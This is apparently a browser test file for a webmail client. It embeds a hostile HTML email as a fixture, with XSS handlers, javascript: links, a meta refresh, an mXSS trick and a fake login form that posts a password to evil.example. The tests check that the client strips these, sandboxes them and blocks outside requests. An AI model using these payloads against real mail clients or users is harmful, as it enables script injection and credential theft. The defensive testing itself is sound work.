"""A hostile mail in a real browser: nothing of it runs, nothing leaves until the agent asks for its pictures."""

import re

from playwright.sync_api import Page, Request, expect

from tests.browser.conftest import As, People, Shop
from tests.browser.letters import letter

OUTSIDE = "https://evil.example"
HOSTILE = f"""<html><head><meta http-equiv="refresh" content="0;url={OUTSIDE}/refresh"><base href="{OUTSIDE}/">
<link rel="stylesheet" href="{OUTSIDE}/style.css"><style>body {{ background: url({OUTSIDE}/style.png) }} @import "{OUTSIDE}/i.css";</style>
<script>top.document.title = "taken"; parent.taken = 1; fetch("{OUTSIDE}/script")</script></head>
<body background="{OUTSIDE}/background.png" onload="parent.taken = 1">
<p id="said">Please look at this offer.</p>
<img src="{OUTSIDE}/remote.png" alt="A banner" onerror="parent.taken = 1"><img src="x" onerror="top.taken = 1">
<img srcset="{OUTSIDE}/set.png 2x"><picture><source srcset="{OUTSIDE}/source.png"><img src="{OUTSIDE}/picture.png"></picture>
<div style="background-image: url('{OUTSIDE}/div.png')">A box</div>
<form action="{OUTSIDE}/form" method="post"><input name="password"><button>Log in again</button></form>
<iframe src="{OUTSIDE}/frame"></iframe><object data="{OUTSIDE}/object"></object><embed src="{OUTSIDE}/embed">
<video src="{OUTSIDE}/video" autoplay poster="{OUTSIDE}/poster.png"></video><audio src="{OUTSIDE}/audio" autoplay></audio>
<svg onload="parent.taken = 1"><image href="{OUTSIDE}/svg.png"/><script>parent.taken = 1</script></svg>
<a id="script" href="javascript:parent.taken=1">One</a> <a id="away" href="{OUTSIDE}/link">Two</a>
<math><mtext><style><img src=x onerror="parent.taken = 1"></style></mtext></math>
</body></html>"""


class Requests:
    """What the pages of a context asked for outside; all of it is answered here, and none leaves."""

    def __init__(self, page: Page, home: str) -> None:
        self.outside: list[str] = []
        self._home = home
        page.context.on("request", self._note)
        page.context.route(
            "https://evil.example/**", lambda route: route.fulfill(status=200, content_type="image/png", body=b"")
        )

    def _note(self, request: Request) -> None:
        if not request.url.startswith((self._home, "data:", "blob:", "about:")):
            self.outside.append(request.url)


def test_hostile_mail_runs_nothing_and_asks_for_nothing(shop: Shop, open_as: As) -> None:
    page = open_as("alice")
    requests = Requests(page, shop.sapa.url)
    page.goto("/inbox/open/")
    shop.sapa.deliver(letter("An offer too good", "Please look.", html=HOSTILE, sender="Eve <eve@evil.example>"))
    page.locator(".row", has_text="An offer too good").click()
    frame = page.frame_locator("iframe.mail")
    expect(frame.locator("body")).to_contain_text("Please look at this offer.")
    expect(frame.locator("script, form, iframe, object, embed, video, audio, meta[http-equiv=refresh]")).to_have_count(
        0
    )
    assert frame.locator(f"base[href], link[href^='{OUTSIDE}']").count() == 0
    assert frame.locator("[onerror], [onload], [href^='javascript:']").count() == 0
    assert requests.outside == []
    assert page.evaluate("() => 'taken' in window") is False
    expect(page).to_have_title(re.compile("An offer too good · Sapa$"))

    sandbox = page.locator("iframe.mail").get_attribute("sandbox") or ""
    assert "allow-scripts" not in sandbox
    assert "allow-forms" not in sandbox
    assert "allow-top-navigation" not in sandbox

    with page.expect_request(f"{OUTSIDE}/remote.png"):
        page.locator("[data-images]").click()
    expect(page.locator("[data-images]")).to_have_count(0)
    assert f"{OUTSIDE}/remote.png" in requests.outside
    assert all(url.endswith(".png") for url in requests.outside)
    assert page.evaluate("() => 'taken' in window") is False


def test_script_that_got_into_the_frame_would_not_run(shop: Shop, people: People) -> None:
    """The second wall: even a mail that the cleaning let through cannot reach the page around it."""
    page = people.open("alice", "/inbox/open/")
    shop.sapa.deliver(
        letter("Harmless at first", "Hello", html="<p id='said'>Hello</p><img src='https://evil.example/a.png'>")
    )
    page.locator(".row", has_text="Harmless at first").click()
    expect(page.frame_locator("iframe.mail").locator("#said, p").first).to_be_visible()
    page.evaluate(
        """() => {
          const inside = document.querySelector("iframe.mail").contentDocument;
          inside.body.insertAdjacentHTML("beforeend", "<img src=/nothing onerror='parent.taken = 1'><p id=late>late</p>");
          const script = inside.createElement("script");
          script.textContent = "parent.taken = 1";
          inside.body.append(script);
        }"""
    )
    expect(page.frame_locator("iframe.mail").locator("#late")).to_be_visible()
    assert page.evaluate("() => 'taken' in window") is False
    assert people.wrong != []  # the browser said that it refused
    people.forgive("")


def test_html_file_is_saved_and_never_shown(shop: Shop, open_as: As) -> None:
    page = open_as("alice", "/inbox/open/")
    mail = letter("With a page attached")
    mail.add_attachment(
        b"<script>document.title='taken'</script>", maintype="text", subtype="html", filename="page.html"
    )
    shop.sapa.deliver(mail)
    page.locator(".row", has_text="With a page attached").click()
    with page.expect_download() as download:
        page.locator(".message .file", has_text="page.html").click()
    assert download.value.suggested_filename == "page.html"
